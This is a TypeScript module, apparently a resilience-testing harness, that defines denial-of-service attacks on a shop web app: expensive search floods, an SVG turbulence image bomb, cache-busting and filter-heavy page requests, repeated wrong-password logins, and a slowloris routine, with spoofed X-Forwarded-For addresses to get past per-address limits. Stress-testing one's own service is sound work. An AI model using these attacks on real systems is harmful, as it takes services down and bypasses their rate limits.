/** Expensive requests, each sent again and again by several clients until told to stop. */
import { connect } from 'node:net'

export interface Target {
  url: string
  searchKey: string
  /** Sessions of accounts. */
  tokens: string[]
  products: string[]
}

/** One round of one client; the addresses of clients differ, as in a crowd. */
export type Attack = (target: Target, client: number, round: number) => Promise<unknown>

const TURBULENCE = `<svg xmlns="http://www.w3.org/2000/svg" width="900" height="900"><filter id="f"><feTurbulence numOctaves="9"/></filter>${'<rect width="900" height="900" filter="url(#f)"/>'.repeat(100)}</svg>`
const from = (client: number) => ({ 'x-forwarded-for': `203.0.113.${client}` })
/** A new address in each round: limits per address do not help. */
const fromCrowd = (client: number, round: number) => ({ 'x-forwarded-for': `100.64.${round % 256}.${client}` })
const LONG_WISH = `quiero ${'una laptop o un celular barato que no sea samsung de menos de 5 mil en walmart y '.repeat(5)}`
const finished = (answer: Promise<Response>) => answer.then((response) => response.arrayBuffer()).catch(() => undefined)

export const ATTACKS: Record<string, Attack> = {
  'searches with the public key': ({ url, searchKey }, client, round) =>
    finished(
      fetch(`${url}/multi_search`, {
        method: 'POST',
        headers: { 'x-typesense-api-key': searchKey, ...from(client) },
        body: JSON.stringify({
          searches: Array.from({ length: 50 }, (_, i) => ({
            collection: 'products',
            q: `aeiou ${client}${round} mesa sila lampra ${i}`,
            query_by: 'productName,brand,tags,category,lvl0,lvl1,lvl2',
            num_typos: 2,
            max_candidates: 10_000,
            per_page: 250,
            exhaustive_search: true,
            drop_tokens_threshold: 10_000,
            typo_tokens_threshold: 10_000,
          })),
        }),
      }),
    ),
  'pictures that take minutes': ({ url, tokens }, client) =>
    finished(
      fetch(`${url}/api/account/picture`, {
        method: 'PUT',
        headers: {
          'content-type': 'image/png',
          authorization: `Bearer ${tokens[client % tokens.length]}`,
          ...from(client),
        },
        body: TURBULENCE,
      }),
    ),
  'pages that no cache has': ({ url }, client, round) =>
    finished(fetch(`${url}/search?q=ataque+${client}+${round}`, { headers: from(client) })),
  'lists with many filters': ({ url }, client, round) => {
    const filters = `minPrice=${client}&maxPrice=${90_000 + round}&sort=discount&conditions=new&brands=Samsung,LG,HP`
    return finished(fetch(`${url}/electronica?${filters}`, { headers: fromCrowd(client, round) }))
  },
  'questions to the assistant': ({ url }, client, round) =>
    finished(
      fetch(`${url}/api/assistant`, {
        method: 'POST',
        headers: { 'content-type': 'application/json', ...fromCrowd(client, round) },
        body: JSON.stringify({ data: { message: `${LONG_WISH.slice(0, 380)} ${client} ${round}` } }),
      }),
    ),
  suggestions: ({ url }, client, round) =>
    finished(
      fetch(`${url}/api/search/suggestions?q=${encodeURIComponent(`lamprita mesita ${client} ${round}`)}`, {
        headers: fromCrowd(client, round),
      }),
    ),
  'link images': ({ url, products }, client, round) => {
    const slug = products[(client * 97 + round) % products.length]
    return finished(fetch(`${url}/img/tarjeta/${slug}.png`, { headers: from(client) }))
  },
  'wrong passwords': ({ url }, client, round) =>
    finished(
      fetch(`${url}/api/auth/local`, {
        method: 'POST',
        headers: { 'content-type': 'application/json', ...from(client) },
        body: JSON.stringify({ identifier: `persona${round}@correo.test`, password: 'no-es-esta' }),
      }),
    ),
  'bodies that never end': ({ url }, client) => slowBodies(Number(new URL(url).port), client),
}

/** Ten connections that send a byte a second, for three seconds. */
function slowBodies(port: number, client: number): Promise<unknown> {
  const head = `POST /multi_search HTTP/1.1\r\nHost: x\r\nX-Forwarded-For: 203.0.113.${client}\r\nContent-Length: 99\r\n\r\n`
  const one = () =>
    new Promise<void>((done) => {
      const socket = connect(port, '127.0.0.1', () => socket.write(head))
      const drip = setInterval(() => socket.write('{'), 1_000)
      setTimeout(() => socket.destroy(), 3_000)
      socket
        .on('error', () => undefined)
        .on('close', () => {
          clearInterval(drip)
          done()
        })
    })
  return Promise.all(Array.from({ length: 10 }, one))
}
